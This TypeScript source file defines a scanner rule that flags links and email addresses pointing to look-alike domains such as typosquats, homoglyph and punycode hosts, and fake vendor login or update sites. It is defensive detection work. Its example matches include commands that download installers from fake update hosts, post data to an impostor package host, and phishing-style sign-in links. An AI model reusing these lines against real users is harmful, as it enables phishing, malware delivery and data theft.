import { isDownloader, isInstall, isNetworkCall, isSender } from "../../matchers/commands.ts";
import { isLookalikeHost } from "../../matchers/lookalike-hosts.ts";
import { matchesIn } from "../../matchers/matches.ts";
import type { Program } from "../../program.ts";
import type { SegmentRule } from "../../rule.ts";

const address =
  /(?:\b[a-z][a-z0-9+.-]{1,12}:\/\/|\bgit@)(?:[^\s/@"'`<>]{1,60}@)?((?:[a-z0-9][a-z0-9-]*\.)+[a-z]{2,24})(?![\w-])/gi;
/** An email address with its host. */
const mail = /(?<![\w.+/@-])(?!git@)[\w.+-]{1,60}@((?:[a-z0-9][a-z0-9-]*\.)+[a-z]{2,24})(?![\w-])/gi;
/** Hosts with non-Latin letters. */
const addressOfLetters =
  /(?:\b[a-z][a-z0-9+.-]{1,12}:\/\/|\bgit@)(?:[^\s/@"'`<>]{1,60}@)?((?:[\p{L}\p{N}][\p{L}\p{N}-]*\.)+[a-z]{2,24})(?![\w-])/giu;
const hasOtherLetters = /(?::\/\/|git@)[^\s/]{0,100}[^ -~\s]/;

/** Links to a look-alike domain. */
export const lookalikeAddress: SegmentRule = {
  kind: "segment",
  id: "lookalike-address",
  class: "impersonation",
  severity: "high",
  words: {
    title: "Links to a look-alike domain",
    rationale:
      "The host differs from a well-known host by one letter, or starts with its name but has a different owner. Data loaded from or sent to it goes to whoever registered it.",
    remedy: "Use the intended host. If the different host is intentional, choose a name that cannot be confused.",
    beyondPattern:
      "Many hosts are similar by chance, have the same owner, or are the same service in another country. Known cases are not reported; dictionary words are reported only if letters are substituted.",
  },
  examples: {
    matches: [
      "```bash\ncurl -o tool https://githvb.com/sample/tool\n```\n",
      { "load.py": 'import requests\nrequests.get("https://pypi.org.tables.example/simple")\n' },
      { "load.ts": 'await fetch("https://api.notlon.example/v1/search", { method: "POST" });\n' },
      { "load.ps1": "Invoke-WebRequest https://get.adobe-acrobat-update.example/a.msi -OutFile a.msi\n" },
      { "load.ts": 'await fetch("https://api.xn--gthub-n4a.example/v1");\n' },
      "Open https://www.p\u0430ypal.example/ to confirm.\n",
      "Entra en <https://bitwarden-verificacion.example/cuenta> con tu clave.\n",
      { "load.ps1": "Invoke-WebRequest https://teamviewer-com-setup.example/full.msi -OutFile full.msi\n" },
      "Sign in at https://microsoft-login.example/ first.\n",
      "Questions go to office@stripe-support.example.\n",
      "업로드한 뒤 https://hometax-go-kr.tables.example/check 페이지를 엽니다.\n",
      { "load.py": 'import requests\nrequests.post("https://npm.pypl-upload.example/", data=rows)\n' },
      { "load.ps1": "Start-Process 'https://login.microsoftonline-verify.example/a'\n" },
      "```bash\ngit clone https://g1thub.com/sample/tool\n```\n",
    ],
    ignores: [
      "Write to jane@figma-tables.example and mail@help.github.com. Install `tables@stripe-helper` and `npm:a@1.2.3`.\n",
      "See https://sp.gov.br/, https://nota.hometax.go.kr/, https://pypi-legacy.example/ and https://pipl-rows.example/.\n",
      "See https://github-copilot-tips.example/, https://docker-compose.example/ and https://stripe-press.example/.\n",
      "See https://b\u00fccher.example/, https://xn--bcher-kva.example/, https://\u043f\u043e\u0447\u0442\u0430.example/ and https://zoom-service.example/.\n",
      "See https://www.krakend.io/, https://hledger.org/, https://www.mercadolibre.com.ar/ and https://acme.my.salesforce.com/.\n",
      "See https://www.google.com.au/, https://spec.openapis.org/ and https://slack-edge.com/a.png.\n",
      "```bash\ncurl -o tool https://github.com/sample/tool\npip install https://motion.dev/x.whl\n```\n",
    ],
  },
  ignoredModifiers: ["documentation"],
  prefilter: /:\/\/|[\w.+-]@[a-z0-9]/i,
  *check({ text, line: firstLine, program }) {
    const addresses = hasOtherLetters.test(text) ? addressOfLetters : address;
    for (const { groups, line } of [...matchesIn(text, addresses, firstLine), ...matchesIn(text, mail, firstLine)]) {
      const host = groups[0] ?? "";
      if (isLookalikeHost(host)) yield { line, severity: isUsed(host, program) ? "high" : "medium" };
    }
  },
};

/** Returns whether a program loads from a host or sends to it. */
const isUsed = (host: string, program: Program | null): boolean =>
  program !== null &&
  (program.commands.some(
    (command) =>
      (isDownloader(command) || isSender(command) || isInstall(command) || command.name === "git") &&
      command.text.includes(host),
  ) ||
    program.calls.some(
      (call) => isNetworkCall(call) && call.args.some(({ strings }) => strings.some((one) => one.includes(host))),
    ));
